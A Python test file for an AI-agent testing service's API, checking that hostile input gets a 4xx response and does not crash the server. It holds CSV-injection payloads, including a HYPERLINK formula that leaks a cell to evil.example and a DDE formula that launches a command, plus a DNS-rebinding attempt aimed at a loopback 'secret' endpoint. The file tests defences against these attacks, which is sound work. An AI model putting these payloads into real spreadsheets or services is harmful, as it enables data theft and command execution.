"""Hostile input to the API: the answer is a 4xx, never a 5xx, and the server stays up.

Deeply nested JSON, huge strings, invalid UTF-8, agent output that would run as a spreadsheet
formula in the CSV report, and an agent host name that a resolver of the test's own points at a
loopback canary.
"""

from __future__ import annotations

import asyncio
import csv
import io
import socket
import time
from collections.abc import Awaitable, Callable
from typing import Any

import pytest
from tests.fakes.mock_agent import start_mock_agent
from tests.fakes.service import Service

ROUTES = ["/api/v1/agents", "/api/v1/test/batch", "/api/v1/test/run", "/api/v1/suites"]


@pytest.fixture
def service_env() -> dict[str, Any]:
    # Nothing on loopback is allowed, so a name resolving to 127.0.0.1 must be refused.
    return {"AIFACTORY_ALLOWED_AGENT_HOSTS": "example.invalid"}


async def _still_up(service: Service) -> None:
    health = await service.http.get("/health")
    assert health.status_code == 200, health.text
    listed = await service.http.get("/api/v1/agents")
    assert listed.status_code == 200, listed.text


async def _finished(service: Service, run_id: str) -> dict[str, Any]:
    deadline = time.monotonic() + 30
    while True:
        body: dict[str, Any] = (
            await service.http.get(f"/api/v1/test/status/{run_id}", params={"results_limit": 50})
        ).json()
        if body["status"] not in ("queued", "running"):
            return body
        assert time.monotonic() < deadline, body
        await asyncio.sleep(0.05)


@pytest.mark.parametrize("route", ROUTES)
async def test_deeply_nested_json_is_a_4xx(service: Service, route: str) -> None:
    for body in (b"[" * 100_000, b'{"a":' * 50_000 + b"1" + b"}" * 50_000):
        response = await service.http.post(
            route, content=body, headers={"Content-Type": "application/json"}
        )
        assert 400 <= response.status_code < 500, (route, response.status_code, response.text)
        assert response.json()["error"]["code"]
    await _still_up(service)


@pytest.mark.parametrize("route", ROUTES)
async def test_huge_strings_and_invalid_utf8_are_4xx(service: Service, route: str) -> None:
    bodies = [
        # Under the body limit, but far past any sane name or id.
        b'{"id": "' + b"a" * 5_000_000 + b'", "name": "' + b"b" * 1_000_000 + b'"}',
        b'{"name": "\xff\xfe\xc3\x28 bad utf-8", "input": "\xed\xa0\x80"}',
        b"\xff" * 1000,
    ]
    for body in bodies:
        response = await service.http.post(
            route, content=body, headers={"Content-Type": "application/json"}
        )
        assert 400 <= response.status_code < 500, (route, response.status_code, response.text)
    too_big = await service.http.post(
        route,
        content=b'"' + b"x" * (11 * 1024 * 1024) + b'"',
        headers={"Content-Type": "application/json"},
    )
    assert too_big.status_code == 413, too_big.text
    await _still_up(service)


async def test_formula_output_is_defused_in_the_csv_report(service: Service) -> None:
    formulas = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)"]
    agent = {
        "id": "formula-bot",
        "kind": "scripted",
        "config": {
            "responses": [{"match": f"q{i}", "output": f} for i, f in enumerate(formulas)],
            "default": "-1+1",
        },
    }
    assert (await service.http.post("/api/v1/agents", json=agent)).status_code == 201
    cases = [{"name": f"=q{i}", "input": f"q{i}", "checks": []} for i in range(len(formulas))]
    accepted = await service.http.post(
        "/api/v1/test/batch", json={"agent_id": "formula-bot", "test_cases": cases}
    )
    assert accepted.status_code == 202, accepted.text
    run_id = accepted.json()["run_id"]
    assert (await _finished(service, run_id))["status"] == "completed"

    report = await service.http.get(f"/api/v1/runs/{run_id}/report", params={"format": "csv"})
    assert report.status_code == 200, report.text
    assert report.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(report.text)))
    assert len(rows) == len(formulas)
    for row in rows:
        for column, cell in row.items():
            # No cell may start a formula; the defused ones keep their text after a quote.
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (column, cell)
    outputs = sorted(row["output"] for row in rows)
    assert outputs == sorted("'" + f for f in formulas)


def _resolver(answers: dict[str, str]) -> Callable[..., Awaitable[list[tuple[Any, ...]]]]:
    """A getaddrinfo of the test's own, like a DNS server an attacker controls."""

    async def getaddrinfo(host: str, port: int, **_: object) -> list[tuple[Any, ...]]:
        return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (answers[host], port))]

    return getaddrinfo


async def test_name_resolving_to_loopback_never_reaches_the_canary(
    service: Service, monkeypatch: pytest.MonkeyPatch
) -> None:
    async with start_mock_agent() as canary:
        port = canary.url.rsplit(":", 1)[1]
        loop = asyncio.get_running_loop()
        monkeypatch.setattr(loop, "getaddrinfo", _resolver({"rebind.example.com": "127.0.0.1"}))
        agent = {
            "id": "rebinder",
            "kind": "http",
            "config": {"url": f"http://rebind.example.com:{port}/secret", "timeout_s": 5},
        }
        created = await service.http.post("/api/v1/agents", json=agent)
        if created.status_code == 201:
            case = {"name": "c", "input": "hi", "checks": []}
            ran = await service.http.post(
                "/api/v1/test/run", json={"agent_id": "rebinder", "test_case": case}
            )
            assert ran.status_code == 200, ran.text
            assert ran.json()["status"] == "error"
            assert "loopback" in ran.json()["error"]
            accepted = await service.http.post(
                "/api/v1/test/batch", json={"agent_id": "rebinder", "test_cases": [case] * 3}
            )
            final = await _finished(service, accepted.json()["run_id"])
            assert final["status"] == "completed"
            assert {r["status"] for r in final["results"]} == {"error"}
        else:
            # Refused at registration: as good, as long as it is a 4xx.
            assert created.status_code == 422, created.text
        assert canary.requests == []
